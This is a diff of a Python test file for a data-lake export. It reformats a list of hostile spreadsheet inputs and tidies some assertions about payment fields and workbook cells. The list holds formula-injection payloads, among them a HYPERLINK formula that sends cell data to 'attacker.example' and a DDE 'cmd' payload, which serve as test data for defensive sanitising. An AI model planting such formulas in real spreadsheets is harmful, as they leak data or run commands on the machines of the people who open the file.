@@ -24,21 +24,12 @@ from schemas.errors import BadInput, LakeError, UnknownName
 from tasks.lake import scan
 from tasks.lake.lake import Change, Lake
 
-HOSTILE = [
-    '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)",
-    "\tindented by a tab",
-    "\r=1+1",
-    "\n=1+1",
-    "  =1+1",
-    "＝1+1",
-]
+HOSTILE = ['=HYPERLINK("https://attacker.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+HOSTILE += ["\tindented by a tab", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1"]
 HARMLESS = [
     "Aid of -5m",
     "a=b",
-    "https://outlet.example/=1",
+    "https://a.example/=1",
     "'quoted'",
     'He said "=1", twice',
     "two\nlines",
@@ -120,11 +111,9 @@ def cells(path: Path, sheet: int = 1) -> list[list[tuple[str, str]]]:
     """Type and text of each cell of a workbook's sheet, row by row; the type of a formula is `formula`."""
     space = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
     root = ElementTree.fromstring(zipfile.ZipFile(path).read(f"xl/worksheets/sheet{sheet}.xml"))
+    kinds = {True: "formula"}
     return [
-        [
-            ("formula" if one.find("x:f", space) is not None else one.get("t", "n"), "".join(one.itertext()))
-            for one in row
-        ]
+        [(kinds.get(one.find("x:f", space) is not None, one.get("t", "n")), "".join(one.itertext())) for one in row]
         for row in root.iterfind(".//x:row", space)
     ]
 
@@ -294,15 +283,9 @@ def test_payments_name_their_parties(lake: Lake, tmp_path: Path) -> None:
     assert paid["m1"]["beneficiary"] == first["payer"]  # one state, one entity
     assert [parties[paid["m2"][role][0]]["schema"] for role in ("payer", "beneficiary")] == ["LegalEntity"] * 2
     assert len(parties) == 5
-    told = {name: first[name] for name in ("amount", "currency", "date", "sourceUrl", "publisher", "purpose")}
-    assert told == {
-        "amount": ["725000000"],
-        "currency": ["USD"],
-        "date": ["2022-09-30"],
-        "sourceUrl": ["https://outlet.example/0"],
-        "publisher": ["outlet.example"],
-        "purpose": ["-aid"],
-    }
+    told = [first[name] for name in ("amount", "currency", "date", "sourceUrl", "publisher", "purpose")]
+    assert told[:3] == [["725000000"], ["USD"], ["2022-09-30"]]
+    assert told[3:] == [["https://outlet.example/0"], ["outlet.example"], ["-aid"]]
 
 
 def test_payments_are_in_the_form_of_the_stream(lake: Lake, tmp_path: Path) -> None:
